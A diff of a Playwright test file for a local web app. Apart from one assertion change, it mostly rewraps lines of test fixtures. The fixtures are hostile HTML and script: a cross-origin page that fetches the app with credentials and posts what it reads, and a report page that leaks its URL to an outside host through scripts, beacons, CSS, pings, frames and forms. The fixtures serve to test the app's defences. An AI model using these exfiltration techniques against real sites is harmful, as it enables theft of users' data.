@@ -280,7 +280,7 @@ def test_a_tampered_bundle_is_not_asked(page: Page, served: Served, tmp_path: Pa
     page.goto(f"{served.address}/ask")
     page.locator("input[type=file]").set_input_files(packed)
     page.get_by_role("button", name="Open it").click()
-    assert "Not verified" in page.locator("main").inner_text()
+    expect(page.locator("main")).to_contain_text("Not verified")
     assert page.locator("#query").count() == 0
 
 
@@ -315,7 +315,8 @@ def test_another_port_of_the_same_address_learns_nothing(page: Page, served: Ser
         other.page = (
             "<!DOCTYPE html><title>elsewhere</title><script>"
             f"for (const mode of ['cors', 'no-cors']) fetch('{root}/', {{ mode, credentials: 'include' }}).then("
-            "(found) => found.text()).then((text) => fetch('/told', { method: 'POST', body: text }), () => fetch('/told'));"
+            "(found) => found.text()).then((text) => fetch('/told', { method: 'POST', body: text }),"
+            " () => fetch('/told'));"
             "</script>"
         )
         for address in ("/", "/choose?file=p12/spec.yaml", "/ledger"):
@@ -337,11 +338,15 @@ def test_another_port_of_the_same_address_learns_nothing(page: Page, served: Ser
 
 HOSTILE_REPORT = """<!DOCTYPE html><html><head><meta name="referrer" content="unsafe-url"><base href="{0}/base">
 <meta http-equiv="refresh" content="0; url={0}/refresh"><link rel="stylesheet" href="{0}/sheet">
-<link rel="prefetch" href="{0}/prefetch"><style>@import url("{0}/import"); body {{ background: url("{0}/paper") }}</style>
-<script>fetch("{0}/script?" + location.href); new Image().src = "{0}/script-image?" + location.href</script></head><body>
-<img src="{0}/image" onerror="fetch('{0}/error?' + location.href)"><iframe src="{0}/frame"></iframe><object data="{0}/object">
+<link rel="prefetch" href="{0}/prefetch">
+<style>@import url("{0}/import"); body {{ background: url("{0}/paper") }}</style>
+<script>fetch("{0}/script?" + location.href);
+new Image().src = "{0}/script-image?" + location.href</script></head><body>
+<img src="{0}/image" onerror="fetch('{0}/error?' + location.href)"><iframe src="{0}/frame"></iframe>
+<object data="{0}/object">
 </object><video src="{0}/video"></video><form method="post" action="{0}/form"><button id="form">form</button></form>
-<a id="link" referrerpolicy="unsafe-url" ping="{0}/ping" href="{0}/link">link</a><a id="top" target="_top" href="{0}/top">top</a>
+<a id="link" referrerpolicy="unsafe-url" ping="{0}/ping" href="{0}/link">link</a>
+<a id="top" target="_top" href="{0}/top">top</a>
 <a id="blank" target="_blank" rel="opener" href="{0}/blank">blank</a></body></html>"""
 
 
